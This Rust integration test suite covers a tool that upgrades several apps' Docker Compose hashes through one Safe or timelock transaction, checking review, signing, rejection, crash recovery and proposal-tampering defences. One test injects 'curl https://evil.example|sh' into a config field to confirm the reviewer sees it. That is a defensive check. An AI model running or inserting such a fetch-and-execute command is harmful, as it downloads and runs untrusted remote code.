//! Several apps of one owner by one transaction: everything is shown and checked for each of them, each is proved by itself,
//! and every CVM is committed exactly once.

use std::os::unix::process::ExitStatusExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use alloy::primitives::{Address, B256};
use countersign::upgrade::model::Proposal;
use serde_json::{Value, json};

use crate::harness::flow::{Flow, Ran};
use crate::harness::judge::each;
use crate::support::cloud::compose_hash;
use crate::support::command::shown;
use crate::support::contracts::{self, abi};
use crate::support::outsider::{BatchFile, Outsider};
use crate::support::safes::RELEASES;
use crate::support::timelocks::{TimelockOptions, advance};
use crate::support::world::{CVM, NEW_COMPOSE, SafeOptions, WorldOptions};
use crate::support::{ACCOUNTS, World};

/// An app, by the CVM that was named first.
#[derive(Debug, Clone)]
struct App {
    cvm: String,
    app: Address,
    hash: B256,
}

/// Apps of one 2-of-3 Safe: the world's own, then others, each with a Docker Compose file of its own.
pub struct Ground {
    world: World,
    apps: Vec<App>,
}

/// The Docker Compose text of an app.
fn compose(number: u64) -> String {
    NEW_COMPOSE.replace("nginx:1.28", &format!("service-{number}:2"))
}

impl Ground {
    pub fn new(others: u64) -> Self {
        let world = World::with(WorldOptions {
            safe: Some(SafeOptions {
                release: 1,
                l2: false,
                threshold: 2,
                owners: 3,
            }),
            ..WorldOptions::default()
        });
        let safe = world.safe.unwrap();
        let mut ground = Self { apps: vec![], world };
        ground.know(CVM, NEW_COMPOSE);
        for number in 2..others + 2 {
            ground.add(number, safe);
        }
        ground
    }
    fn add(&mut self, number: u64, owner: Address) -> App {
        let cvm = self.world.add_app(number, owner);
        self.world.file(&format!("{}.yml", cvm.name), &compose(number));
        self.know(&cvm.name, &compose(number))
    }
    fn know(&mut self, cvm: &str, compose: &str) -> App {
        let found = self.world.cloud.cvm(cvm);
        let mut manifest = found.manifest;
        manifest.insert("docker_compose_file".to_owned(), json!(compose));
        let app = App {
            cvm: cvm.to_owned(),
            app: found.app,
            hash: compose_hash(&manifest),
        };
        self.apps.push(app.clone());
        app
    }
    fn flow(&self) -> Flow<'_> {
        Flow::new(&self.world)
    }
    fn file(&self, cvm: &str) -> PathBuf {
        self.world.folder().join(format!("{cvm}.yml"))
    }
    /// Name and file of each of the others, as the option takes them.
    fn also(&self) -> String {
        let each = self.apps[1..]
            .iter()
            .map(|app| format!("{}={}", app.cvm, self.file(&app.cvm).display()));
        each.collect::<Vec<_>>().join(",")
    }
    fn outsider(&self) -> Outsider<'_> {
        Outsider {
            rpc: self.world.rpc(),
            release: &RELEASES[1],
            safe: self.world.safe.unwrap(),
            signers: &[0, 1],
        }
    }
    fn is_allowed(&self, app: &App) -> bool {
        let call = abi::allowedComposeHashesCall { composeHash: app.hash };
        self.world.rpc().read(app.app, &call)
    }
    fn as_safe<C: alloy::sol_types::SolCall>(&self, app: &App, call: &C) {
        self.world.rpc().execute_as(self.world.safe.unwrap(), app.app, call);
    }
    /// The Safe allows the app's hash otherwise than by a transaction that was prepared for it.
    fn allow(&self, app: &App) {
        self.as_safe(app, &abi::addComposeHashCall { composeHash: app.hash });
    }
    /// How often an app announced its hash.
    fn announcements(&self, app: &App) -> usize {
        let (topic, data) = contracts::compose_hash_added(app.hash);
        let filter = json!([{"fromBlock": "0x0", "address": app.app, "topics": [topic]}]);
        let logs = self.world.rpc().call("eth_getLogs", filter);
        let logs = logs.as_array().unwrap();
        let ours = logs
            .iter()
            .filter(|log| log["data"].as_str() == Some(&data.to_string()));
        ours.count()
    }
    #[track_caller]
    fn committed_once(&self, app: &App) {
        self.world.cloud.wait_for_hash(&app.cvm, app.hash);
        assert_eq!(self.world.cloud.commits(&app.cvm), [app.hash], "{}", app.cvm);
    }
}

fn prepare(flow: &Flow<'_>, also: &str) -> Command {
    let (dir, compose) = (flow.dir.to_str().unwrap(), flow.compose.to_str().unwrap());
    flow.command(&[
        "fleet", "prepare", "--json", "--cvm", CVM, "-c", compose, "--also", also, "--dir", dir,
    ])
}

fn fleet(flow: &Flow<'_>, step: &str) -> Ran {
    let dir = flow.dir.to_str().unwrap();
    let mut command = flow.command(&["fleet", step, "--json", "--dir", dir]);
    if step == "commit" {
        command.arg("--yes");
    }
    Ran::of(&mut command)
}

/// The upgrade that carries the proposal.
fn carrier<'w>(flow: &Flow<'w>, prepared: &Ran) -> Flow<'w> {
    let approval = prepared.json["data"]["approval"].as_str().unwrap();
    crate::harness::judge::moved(flow, PathBuf::from(approval))
}

fn by(flow: &Flow<'_>, step: &str, account: usize) -> Command {
    let (dir, signer) = (flow.dir.to_str().unwrap(), format!("env:SIGNER_{account}"));
    flow.command(&[step, "--json", "--dir", dir, "--signer", &signer, "--yes"])
}

/// Two owners sign, one of them the file alone and without a chain; somebody else executes.
fn execute(flow: &Flow<'_>) {
    let sent = flow.world.file("to-sign.json", "");
    std::fs::copy(flow.dir.join("proposal.json"), &sent).unwrap();
    let (sent, dir) = (sent.to_str().unwrap(), flow.dir.to_str().unwrap());
    let alone = ["sign", sent, "--offline", "--json", "--signer", "env:SIGNER_2", "--yes"];
    Ran::of(&mut flow.command(&alone)).exits(0);
    Ran::of(&mut flow.command(&["import", sent, "--dir", dir, "--json"])).exits(0);
    for (step, account) in [("sign", 0), ("execute", 4)] {
        Ran::of(&mut by(flow, step, account)).exits(0);
    }
}

fn live(ran: &Ran, cvm: &str) -> bool {
    let apps = ran.json["data"]["apps"].as_array().unwrap();
    let mut members = apps.iter().flat_map(|app| app["members"].as_array().unwrap());
    let member = members.find(|member| member["cvm"] == cvm);
    member.unwrap_or_else(|| panic!("{cvm}: {}", ran.said))["live"] == true
}

/// What a reviewer without anything else sees of a file.
fn review(flow: &Flow<'_>, file: &Path, more: &[&str]) -> Ran {
    let mut command = flow.command(&["review", file.to_str().unwrap(), "--offline", "--json"]);
    Ran::of(command.args(more))
}

/// The values of one member of each object of a list.
fn column<'v>(list: &'v Value, name: &str) -> Vec<&'v Value> {
    list.as_array().unwrap().iter().map(|one| &one[name]).collect()
}

#[test]
fn one_transaction_of_a_safe_upgrades_several_apps_and_one_that_is_withdrawn_stops_alone() {
    let mut ground = Ground::new(3);
    names_the_one_of_another_owner(&mut ground);
    let lead = leaves_out_what_is_allowed(&ground);
    shows_every_app(&ground, &crate::harness::judge::moved(&ground.flow(), lead.clone()));
    stops_the_withdrawn_one_alone(&ground, lead);
    goes_on_once_it_is_allowed_again(&ground);
}

/// Before anything is prepared.
fn names_the_one_of_another_owner(ground: &mut Ground) {
    let foreign = ground.add(9, ACCOUNTS[3].address);
    let flow = ground.flow();
    let stopped = Ran::of(&mut prepare(&flow, &ground.also()))
        .exits(5)
        .says("APPS_MISMATCH");
    for name in [foreign.cvm, foreign.app.to_string()] {
        assert!(stopped.said.contains(&name), "{}", stopped.said);
    }
    assert!(ground.world.cloud.requests_to("PATCH", "").is_empty() && !flow.dir.exists());
    drop(flow);
    ground.apps.pop();
}

/// Nobody has to allow what is allowed. Gives the directory of the upgrade that carries the proposal.
fn leaves_out_what_is_allowed(ground: &Ground) -> PathBuf {
    let allowed = &ground.apps[3];
    ground.allow(allowed);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    assert!(
        prepared.json["next"].as_str().unwrap().contains("review"),
        "{}",
        prepared.said
    );
    let lead = carrier(&flow, &prepared);
    let proposal = lead.json_file("proposal.json");
    let addresses: Vec<Value> = ground.apps[..3].iter().map(|app| json!(app.app)).collect();
    assert_eq!(column(&proposal["calls"], "to"), addresses.iter().collect::<Vec<_>>());
    assert_eq!(proposal["safe"]["frozen"]["transaction"]["operation"], 1);
    let asked = column(&prepared.json["data"]["apps"], "asked");
    assert_eq!(asked, [true, true, true, false], "{}", prepared.said);
    fleet(&flow, "commit").exits(6);
    let again = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    assert_eq!(again.json["data"]["approval"], prepared.json["data"]["approval"]);
    lead.dir
}

fn stops_the_withdrawn_one_alone(ground: &Ground, lead: PathBuf) {
    let flow = ground.flow();
    let lead = crate::harness::judge::moved(&flow, lead);
    let [own, second, third, allowed] = [0, 1, 2, 3].map(|index| &ground.apps[index]);
    execute(&lead);
    let remove = abi::removeComposeHashCall {
        composeHash: second.hash,
    };
    ground.as_safe(second, &remove);
    let waited = lead.step("wait").exits(0);
    assert!(waited.said.contains("APP_UNDONE"), "{}", waited.said);
    assert_eq!(
        column(waited.fact("others"), "proved"),
        [false, true],
        "{}",
        waited.said
    );
    let stopped = fleet(&flow, "commit").exits(6).says("HASH_REMOVED");
    assert!(
        stopped.json["message"].as_str().unwrap().contains(&second.cvm),
        "{}",
        stopped.said
    );
    for app in [own, third, allowed] {
        assert!(live(&stopped, &app.cvm), "{}: {}", app.cvm, stopped.said);
        ground.committed_once(app);
    }
    assert_eq!(ground.world.cloud.commits(&second.cvm), Vec::<B256>::new());
    let evidence = lead.json_file("evidence.json");
    let changes = column(&evidence["others"], "changes");
    let counts: Vec<usize> = changes
        .iter()
        .map(|changes| changes.as_array().unwrap().len())
        .collect();
    assert_eq!(counts, [0, 1], "{evidence}");
    let page = std::fs::read_to_string(lead.dir.join("evidence.md")).unwrap();
    assert!(page.contains(&third.app.to_string()), "{page}");
    assert!(page.contains("undone before it was proved"), "{page}");
}

/// And nothing is done twice.
fn goes_on_once_it_is_allowed_again(ground: &Ground) {
    let flow = ground.flow();
    ground.allow(&ground.apps[1]);
    fleet(&flow, "commit").exits(0);
    fleet(&flow, "commit").exits(0);
    let status = fleet(&flow, "status").exits(0);
    for app in &ground.apps {
        assert!(live(&status, &app.cvm));
        ground.committed_once(app);
    }
    for app in [&ground.apps[0], &ground.apps[2]] {
        assert_eq!(ground.announcements(app), 1, "{}", app.cvm);
    }
}

/// Everything of every app, from the file alone; and what is not the reviewer's own file stops.
fn shows_every_app(ground: &Ground, lead: &Flow<'_>) {
    let [second, third] = [1, 2].map(|index| &ground.apps[index]);
    let file = ground.world.file("sent.json", "");
    std::fs::copy(lead.dir.join("proposal.json"), &file).unwrap();
    let (mine, others) = (lead.compose.to_str().unwrap(), |cvm: &str| {
        ground.file(cvm).display().to_string()
    });
    let also = format!(
        "{}={},{}={}",
        second.cvm,
        others(&second.cvm),
        third.cvm,
        others(&third.cvm)
    );
    let clean = review(lead, &file, &["-c", mine, "--also", &also]).exits(0);
    let shown = clean.json["data"]["others"].as_array().unwrap();
    for (one, app) in shown.iter().zip([second, third]) {
        assert_eq!(one["asked"]["app"], json!(app.app));
        assert_eq!(one["changes"][0]["field"], "docker_compose_file");
        assert_eq!(one["compose_hash"]["after"], json!(app.hash));
        assert_eq!(one["compose_hash"]["local"]["differences"], json!([]));
    }
    let calls = clean.json["data"]["transaction"]["calls"].as_array().unwrap();
    assert!(
        calls.len() == 3 && calls.iter().all(|call| call["to_the_app"] == true),
        "{}",
        clean.said
    );
    names_what_no_file_was_compared_with(ground, lead, &file);
    let swapped = format!("{}={}", second.cvm, others(&third.cvm));
    let stopped = review(lead, &file, &["--also", &swapped])
        .exits(5)
        .says("HASH_MISMATCH");
    assert!(
        stopped.json["message"].as_str().unwrap().contains(&second.cvm),
        "{}",
        stopped.said
    );
    review(lead, &file, &["--also", &format!("nobody={mine}")])
        .exits(6)
        .says("APP_NOT_IN_PROPOSAL");
    let page = lead.command(&["review", file.to_str().unwrap()]).output().unwrap();
    let page = shown_page(&page);
    for app in &ground.apps[..3] {
        assert!(page.contains(&app.app.to_string()), "{page}");
    }
    assert!(
        page.contains("APP 3 OF 3") && page.contains(&format!("the app of {}", third.cvm)),
        "{page}"
    );
}

/// Of whom no file of the reader's own says anything is named, the carrier too.
fn names_what_no_file_was_compared_with(ground: &Ground, lead: &Flow<'_>, file: &Path) {
    let [second, third] = [1, 2].map(|index| &ground.apps[index]);
    let open = |own: &[&str]| {
        let ran = review(lead, file, own).exits(0);
        ran.json["data"]["verdict"]["not_checked"].to_string()
    };
    let alone = open(&["-c", lead.compose.to_str().unwrap()]);
    for app in [second, third] {
        assert!(alone.contains(&format!("of {}, of which", app.cvm)), "{alone}");
    }
    let one = format!("{}={}", second.cvm, ground.file(&second.cvm).display());
    let without = open(&["--also", &one]);
    let named = format!("any field of the manifest of {CVM}, of which");
    assert!(without.contains(&named), "{without}");
}

fn shown_page(output: &std::process::Output) -> String {
    assert!(output.status.success(), "{}", shown(output));
    String::from_utf8(output.stdout.clone()).unwrap()
}

#[test]
fn an_outside_tool_executes_the_export_and_each_app_is_proved_by_its_own_event() {
    let ground = Ground::new(2);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    let lead = carrier(&flow, &prepared);
    let dir = lead.dir.to_str().unwrap();
    let exported = Ran::of(&mut lead.command(&["export", "--dir", dir, "--format", "builder-file", "--json"])).exits(0);
    let text = exported.json["data"]["content"].as_str().unwrap().to_owned();
    let file = ground.world.file("batch.json", &text);
    let reviewed = [
        "review",
        "--dir",
        dir,
        "--builder-file",
        file.to_str().unwrap(),
        "--json",
    ];
    Ran::of(&mut lead.command(&reviewed)).exits(0);
    let outsider = ground.outsider();
    outsider.use_up_a_nonce();
    let executed = outsider.execute(&BatchFile::read(&text));
    let waited = lead.step("wait").exits(0);
    assert_eq!(
        waited.fact("transaction_hash"),
        &json!(executed.transaction),
        "{}",
        waited.said
    );
    assert_eq!(
        waited.fact("safe_tx_hash"),
        &json!(executed.safe_tx_hash),
        "{}",
        waited.said
    );
    let proved = waited.fact("others").as_array().unwrap().iter();
    assert!(
        proved.clone().count() == 2 && proved.clone().all(|one| one["proved"] == true),
        "{}",
        waited.said
    );
    fleet(&flow, "commit").exits(0);
    let mut logs = Vec::new();
    for app in &ground.apps {
        ground.committed_once(app);
        assert_eq!(ground.announcements(app), 1);
        let own = flow.dir.join(&app.cvm).join(&app.cvm);
        let evidence: Value = serde_json::from_slice(&std::fs::read(own.join("evidence.json")).unwrap()).unwrap();
        assert_eq!(evidence["transaction"]["hash"], json!(executed.transaction));
        logs.push(evidence["said"]["settled"]["log_indexes"][0].as_u64().unwrap());
    }
    logs.sort_unstable();
    logs.dedup();
    assert_eq!(
        logs.len(),
        ground.apps.len(),
        "each app by an event of its own: {logs:?}"
    );
}

#[test]
fn a_rejection_is_one_of_all_apps_and_none_of_them_approves_by_itself() {
    let ground = Ground::new(1);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    let lead = carrier(&flow, &prepared);
    let other = &ground.apps[1];
    let alone = crate::harness::judge::moved(&flow, flow.dir.join(&other.cvm).join(&other.cvm));
    assert!(!alone.dir.join("proposal.json").exists(), "there is one proposal");
    for (step, account) in [("execute", 0), ("resume", 0)] {
        Ran::of(&mut by(&alone, step, account))
            .exits(8)
            .says("PENDING_APPROVAL");
    }
    Ran::of(&mut by(&lead, "reject", 0)).exits(8).says("PENDING_REJECTION");
    Ran::of(&mut by(&lead, "reject", 2)).exits(0);
    fleet(&flow, "commit").exits(6).says("ABANDONED");
    for app in &ground.apps {
        assert!(!ground.is_allowed(app) && ground.announcements(app) == 0);
        assert_eq!(ground.world.cloud.commits(&app.cvm), Vec::<B256>::new());
    }
}

#[test]
fn a_timelock_schedules_and_executes_the_calls_of_all_its_apps_at_once() {
    let world = World::start();
    let timelock = TimelockOptions::default().deploy(&world.rpc());
    let first = world.add_app(2, timelock);
    let second = world.add_app(3, timelock);
    let flow = Flow::new(&world);
    let (dir, compose) = (flow.dir.to_str().unwrap(), flow.compose.to_str().unwrap());
    let names = [first.name.as_str(), second.name.as_str()];
    let words = [
        "fleet", "prepare", "--json", "--cvm", names[0], "-c", compose, "--also", names[1], "--dir", dir,
    ];
    let prepared = Ran::of(&mut flow.command(&words)).exits(0);
    let lead = carrier(&flow, &prepared);
    Ran::of(&mut by(&lead, "execute", 1)).exits(8).says("PENDING_DELAY");
    fleet(&flow, "commit").exits(6);
    advance(&world.rpc(), 86_400);
    Ran::of(&mut by(&lead, "execute", 3)).exits(0);
    let waited = lead.step("wait").exits(0);
    assert_eq!(column(waited.fact("others"), "proved"), [true], "{}", waited.said);
    fleet(&flow, "commit").exits(0);
    for name in names {
        world.cloud.wait_for_hash(name, flow.hash);
        assert_eq!(world.cloud.commits(name), [flow.hash], "{name}");
    }
}

#[test]
fn a_key_that_owns_several_apps_is_told_to_approve_them_one_by_one() {
    let world = World::start();
    let other = world.add_app(2, world.owner.address);
    let flow = Flow::new(&world);
    let refused = Ran::of(&mut prepare(&flow, &other.name))
        .exits(6)
        .says("APPS_NEED_SAFE");
    assert!(refused.said.contains(&other.name), "{}", refused.said);
    let next = refused.json["next"].as_str().unwrap();
    assert!(
        next.starts_with("countersign fleet prepare") && !next.contains("--also"),
        "{next}"
    );
    assert!(world.cloud.requests_to("PATCH", "").is_empty() && !flow.dir.exists());
}

/// Something that somebody changes of a proposal.
type Change = (&'static str, fn(&mut Value));

/// What a proposal may not be, each with a name.
const CHANGES: [Change; 12] = [
    ("apps in another order", |all| swap(&mut all["others"], 0)),
    ("calls in another order", |all| swap(&mut all["calls"], 1)),
    ("calls and digests in another order", |all| {
        swap(&mut all["calls"], 1);
        swap(&mut all["calldata_digests"], 1);
    }),
    ("apps, calls and digests in another order", |all| {
        swap(&mut all["others"], 0);
        swap(&mut all["calls"], 1);
        swap(&mut all["calldata_digests"], 1);
    }),
    ("an app dropped", |all| {
        drop(all["others"].as_array_mut().unwrap().pop())
    }),
    ("an app dropped with its call", |all| {
        for name in ["others", "calls", "calldata_digests"] {
            all[name].as_array_mut().unwrap().pop();
        }
    }),
    ("an app twice", |all| {
        let again = all["others"][0].clone();
        all["others"].as_array_mut().unwrap().push(again);
    }),
    ("all others dropped", |all| {
        drop(all.as_object_mut().unwrap().remove("others"))
    }),
    ("another app's manifest", |all| {
        all["others"][0]["manifest_after"] = all["others"][1]["manifest_after"].clone();
    }),
    ("another app's hash", |all| {
        all["others"][0]["compose_hash"] = all["others"][1]["compose_hash"].clone();
    }),
    ("another app's contract", |all| {
        all["others"][0]["plan"]["app"] = all["others"][1]["plan"]["app"].clone();
    }),
    ("an app that says who acts", |all| {
        all["others"][0]["safe"] = all["safe"].clone()
    }),
];

fn swap(list: &mut Value, first: usize) {
    list.as_array_mut().unwrap().swap(first, first + 1);
}

#[test]
fn v16_apps_of_a_proposal_cannot_be_swapped_dropped_added_reordered_or_changed() {
    let ground = Ground::new(3);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    let lead = carrier(&flow, &prepared);
    let honest = lead.json_file("proposal.json");
    let file = ground.world.file("changed.json", "");
    let read = |changed: &Value| {
        std::fs::write(&file, changed.to_string()).unwrap();
        Proposal::read(&file).map_err(|error| error.to_string())
    };
    let own = read(&honest).unwrap();
    for (what, change) in CHANGES {
        let mut changed = honest.clone();
        change(&mut changed);
        assert!(read(&changed).is_err(), "{what}");
    }
    // An app with an owner of its own cannot be in one transaction.
    let mut foreign = honest;
    for place in ["actor/address", "app_state/owner", "route/owner", "safe/address"] {
        *foreign.pointer_mut(&format!("/others/0/plan/{place}")).unwrap() = json!(ACCOUNTS[3].address);
    }
    let refused = read(&foreign).unwrap_err();
    assert!(refused.contains("owner of the app"), "{refused}");

    let text = std::fs::read(lead.dir.join("proposal.json")).unwrap();
    let start = text.windows(10).position(|window| window == b"\"others\": ").unwrap();
    let asked = |proposal: &Proposal| {
        let tx = proposal.ceremony().unwrap().unwrap().approval.tx;
        (tx, proposal.told(), proposal.calls.clone())
    };
    let mut dice = crate::upgrade::tamper::Dice(11);
    let mut kept = 0;
    for _ in 0..1_000 {
        let mut changed = text.clone();
        dice.bit(&mut changed[start..]);
        std::fs::write(&file, &changed).unwrap();
        if let Ok(found) = Proposal::read(&file) {
            assert_eq!(asked(&found), asked(&own), "{}", String::from_utf8_lossy(&changed));
            kept += 1;
        }
    }
    // Names and times may change; what is signed may not.
    assert!(kept < 500, "{kept}");
}

#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
#[test]
fn k_a_death_while_several_apps_join_or_are_proved_is_followed_by_one_that_finishes() {
    const DEATHS: [(&str, &str); 10] = [
        ("prepare", "join.a=return"),
        ("prepare", "join.b=1*off->return"),
        ("prepare", "join.e=return"),
        ("prepare", "freeze.a=return"),
        ("prepare", "freeze.b=return"),
        ("prepare", "apps.a=return"),
        ("wait", "joined.a=return"),
        ("wait", "joined.e=return"),
        ("wait", "joined.e=1*off->return"),
        ("commit", "commit.b=1*off->return"),
    ];
    each(&DEATHS, |(step, failpoints)| {
        let ground = Ground::new(2);
        let flow = ground.flow();
        let die = |at: &str, mut command: Command| {
            if at == *step {
                let output = command.env("FAILPOINTS", failpoints).output().unwrap();
                assert_eq!(output.status.signal(), Some(9), "{failpoints}: {}", shown(&output));
            }
            command.env_remove("FAILPOINTS");
            Ran::of(&mut command).exits(0)
        };
        let prepared = die("prepare", prepare(&flow, &ground.also()));
        let lead = carrier(&flow, &prepared);
        execute(&lead);
        die("wait", crate::harness::judge::command(&lead, "wait", &[]));
        let dir = flow.dir.to_str().unwrap();
        die(
            "commit",
            flow.command(&["fleet", "commit", "--json", "--yes", "--dir", dir]),
        );
        for app in &ground.apps {
            assert!(ground.is_allowed(app));
            assert_eq!(ground.announcements(app), 1, "{failpoints}");
            ground.committed_once(app);
        }
        let payer = ACCOUNTS[4].address;
        assert_eq!(ground.world.rpc().nonce(payer), 1, "{failpoints}: one execution");
        let journals = std::fs::read_dir(&flow.dir)
            .unwrap()
            .map(|entry| entry.unwrap().path().join("journal"));
        let journals: String = journals.filter_map(|path| std::fs::read_to_string(path).ok()).collect();
        for once in ["safe.frozen", "joined", "tx.final"] {
            let kind = format!("\"kind\":\"{once}\"");
            assert_eq!(journals.matches(&kind).count(), 1, "{failpoints}: {once}");
        }
    });
}

/// Changes the carrier's proposal on its way to somebody.
fn sent(lead: &Flow<'_>, name: &str, change: impl FnOnce(&mut Value)) -> PathBuf {
    let mut proposal = lead.json_file("proposal.json");
    change(&mut proposal);
    lead.world.file(name, &proposal.to_string())
}

#[test]
fn se2_o1_what_no_hash_covers_of_another_app_is_shown_under_its_name_and_its_sealed_environment_stops() {
    let ground = Ground::new(1);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    let lead = carrier(&flow, &prepared);
    let at = "/others/0/plan/code/patch";
    let patch = |proposal: &mut Value, name: &str, value: Value| {
        proposal.pointer_mut(at).unwrap()[name] = value;
    };
    let file = sent(&lead, "env.json", |proposal| {
        patch(proposal, "encrypted_env", json!("ee"))
    });
    review(&lead, &file, &[]).exits(5).says("PROPOSAL_CARRIES_ENV");
    let sign = [
        "sign",
        file.to_str().unwrap(),
        "--json",
        "--signer",
        "env:SIGNER_0",
        "--yes",
    ];
    Ran::of(&mut lead.command(&sign)).exits(5).says("PROPOSAL_CARRIES_ENV");
    let file = sent(&lead, "config.json", |proposal| {
        patch(proposal, "user_config", json!("curl https://evil.example|sh"));
    });
    let reviewed = review(&lead, &file, &[]).exits(0);
    assert_eq!(reviewed.json["data"]["uncovered"], json!([]));
    let other = &reviewed.json["data"]["others"][0]["uncovered"];
    let all = json!([{"field": "user_config", "after": "curl https://evil.example|sh"}]);
    assert_eq!(*other, all);
    let page = lead
        .command(&["review", file.to_str().unwrap(), "--offline"])
        .output()
        .unwrap();
    let page = shown_page(&page);
    let (_, second) = page.split_once("APP 2 OF 2").unwrap();
    assert!(
        second.contains("no hash covers it") && second.contains("curl https://evil.example|sh"),
        "{page}"
    );
    // A consent names it too.
    let asked = lead.command(&[
        "sign",
        file.to_str().unwrap(),
        "--offline",
        "--signer",
        "env:SIGNER_0",
        "--yes",
    ]);
    let asked = { asked }.output().unwrap();
    assert!(shown(&asked).contains("evil.example"), "{}", shown(&asked));
}

#[test]
fn se2_o2_apps_whose_cvms_could_be_taken_for_each_other_are_refused() {
    let ground = Ground::new(1);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    let lead = carrier(&flow, &prepared);
    let own = lead.json_file("proposal.json")["plan"]["code"].clone();
    let name = own["cvm"].as_str().unwrap();
    let names = [
        ("cvm", json!(name)),
        ("cvm", json!(name.to_uppercase())),
        ("cvm", json!(name.replace('a', "\u{430}"))),
        ("cvm", own["cvm_uuid"].clone()),
        ("cvm", json!(format!("app_{}", alloy::hex::encode(ground.apps[0].app)))),
        ("cvm_name", json!(name)),
        ("cvm_name", own["cvm_name"].clone()),
        ("cvm_uuid", own["cvm_uuid"].clone()),
        ("cvm_uuid", json!(own["cvm_uuid"].as_str().unwrap().replace('-', ""))),
    ];
    for (member, value) in names {
        let file = sent(&lead, "twin.json", |proposal| {
            proposal.pointer_mut("/others/0/plan/code").unwrap()[member] = value.clone();
        });
        let refused = review(&lead, &file, &[]);
        assert!([3, 5].contains(&refused.exit), "{member} {value}: {}", refused.said);
        let code = refused.json["code"].as_str().unwrap();
        assert!(
            ["APPS_MISMATCH", "INPUT_PROPOSAL"].contains(&code),
            "{member} {value}: {}",
            refused.said
        );
    }
}

/// A change of the list of apps.
type ListChange = fn(&mut Vec<Value>);

#[test]
fn se2_o3_an_app_that_the_proposal_names_cannot_drop_out_of_the_list() {
    let ground = Ground::new(2);
    let flow = ground.flow();
    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
    let lead = carrier(&flow, &prepared);
    execute(&lead);
    lead.step("wait").exits(0);
    let list = flow.dir.join("apps.json");
    let honest = std::fs::read(&list).unwrap();
    let names = |change: &dyn Fn(&mut Vec<Value>)| {
        let mut list_now: Value = serde_json::from_slice(&honest).unwrap();
        change(list_now["fleets"].as_array_mut().unwrap());
        std::fs::write(&list, list_now.to_string()).unwrap();
    };
    let changes: [ListChange; 5] = [
        |all| drop(all.pop()),
        |all| drop(all.remove(1)),
        |all| drop(all.remove(0)),
        |all| all.swap(0, 1),
        |all| all.push(all[1].clone()),
    ];
    for change in changes {
        names(&change);
        for step in ["commit", "status"] {
            fleet(&flow, step).exits(5).says("APPS_MISMATCH");
        }
    }
    for app in &ground.apps {
        assert_eq!(ground.world.cloud.commits(&app.cvm), Vec::<B256>::new());
    }
    std::fs::write(&list, &honest).unwrap();
    fleet(&flow, "commit").exits(0);
    for app in &ground.apps {
        ground.committed_once(app);
    }
}

#[test]
fn apps_that_are_named_later_or_left_out_do_not_change_an_approval_that_was_begun() {
    let ground = Ground::new(2);
    let flow = ground.flow();
    let all = ground.also();
    let first = all.split(',').next().unwrap().to_owned();
    Ran::of(&mut prepare(&flow, &first)).exits(0);
    Ran::of(&mut prepare(&flow, &all)).exits(6).says("APPS_CHOSEN");
    // What was begun for one app takes in no others.
    let alone = crate::harness::judge::moved(&flow, ground.world.folder().join("alone"));
    let (dir, compose) = (alone.dir.join(CVM), alone.compose.to_str().unwrap());
    let dir = dir.to_str().unwrap();
    let words = [
        "fleet",
        "prepare",
        "--json",
        "--cvm",
        CVM,
        "-c",
        compose,
        "--dir",
        dir,
        "--supersede",
    ];
    Ran::of(&mut alone.command(&words)).exits(0);
    Ran::of(prepare(&alone, &first).args(["--supersede"]))
        .exits(6)
        .says("APPS_TOO_LATE");
}
